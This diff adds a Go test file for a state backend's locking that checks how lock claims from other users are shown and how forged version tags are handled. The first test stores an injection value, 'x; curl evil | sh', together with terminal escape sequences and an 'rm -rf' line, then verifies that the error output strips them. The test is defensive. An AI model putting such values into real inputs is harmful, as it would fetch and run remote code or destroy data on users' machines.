@@ -1,0 +1,71 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package statebackend_test
+
+import (
+	"errors"
+	"strings"
+	"testing"
+
+	"github.com/seed-141914ff/okara/internal/ocitest"
+	"github.com/seed-141914ff/okara/oci"
+	"github.com/seed-141914ff/okara/statebackend"
+)
+
+// What a stranger writes into a claim reaches neither the terminal nor the shell
+// of who is told about the lock, and the printed id ends the lock.
+func TestStrangersLock(t *testing.T) {
+	host := ocitest.New(t, ocitest.Quirks{})
+	s := newStore(t, host, nil, statebackend.Options{})
+	const id = "x; curl evil | sh #\x1b]0;"
+	l, err := s.Lock(t.Context(), "prod", statebackend.LockInfo{ID: id, Who: "eve\x1b[2J\u202e", Info: "a\r\nhint: rm -rf", Operation: "\x07"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = newStore(t, host, nil, statebackend.Options{}).Lock(t.Context(), "prod", statebackend.LockInfo{ID: "b"})
+	e, ok := errors.AsType[*statebackend.LockedError](err)
+	if !ok || strings.ContainsAny(err.Error(), "\x1b\x07\r\u202e;|#") || strings.Count(err.Error(), "\n") != 1 {
+		t.Fatalf("%q", err)
+	}
+	if !strings.HasSuffix(err.Error(), " --id "+e.Held.ID) || len(e.Held.ID) != 64 {
+		t.Errorf("%q", err)
+	}
+	if err := newStore(t, host, nil, statebackend.Options{}).ForceUnlock(t.Context(), "prod", e.Held.ID); err != nil {
+		t.Errorf("unlocking by the printed id: %v", err)
+	}
+	if _, err := l.Put(t.Context(), testState(1, 10)); !errors.Is(err, statebackend.ErrLockLost) {
+		t.Errorf("write after it: %v", err)
+	}
+	if _, err := s.Lock(t.Context(), "dev", statebackend.LockInfo{ID: "c", Info: strings.Repeat("x", oci.MaxLockInfo)}); !errors.Is(err, oci.ErrTooLarge) {
+		t.Errorf("large lock information: %v", err)
+	}
+}
+
+// A number near the end of what a tag can hold stops a lock, which names it.
+func TestForgedNumbers(t *testing.T) {
+	for _, tag := range []string{
+		"state-prod-v999999999999", "state-prod-v9223372036854775807", "state-prod-v999999800000",
+		"locked-prod-999999999999-0123456789abcdef", "unlocked-prod-999999999999-0123456789abcdef-f",
+	} {
+		host := ocitest.New(t, ocitest.Quirks{})
+		s := newStore(t, host, nil, statebackend.Options{})
+		mustStore(t, s, "prod", testState(1, 10))
+		mustStore(t, s, "dev", testState(1, 10))
+		m, err := s.Repo().Fetch(t.Context(), "state-prod-v1")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := s.Repo().PutTag(t.Context(), tag, m); err != nil {
+			t.Fatal(err)
+		}
+		for _, lock := range []func() (*statebackend.Lock, error){
+			func() (*statebackend.Lock, error) { return s.Lock(t.Context(), "prod", statebackend.LockInfo{}) },
+			func() (*statebackend.Lock, error) { return s.TakeOver(t.Context(), "prod", statebackend.LockInfo{}) },
+		} {
+			if _, err := lock(); !errors.Is(err, oci.ErrCorrupt) || !strings.Contains(err.Error(), tag) {
+				t.Errorf("%s: %v", tag, err)
+			}
+		}
+		mustUnlock(t, mustLock(t, s, "dev", "others are not concerned"))
+	}
+}
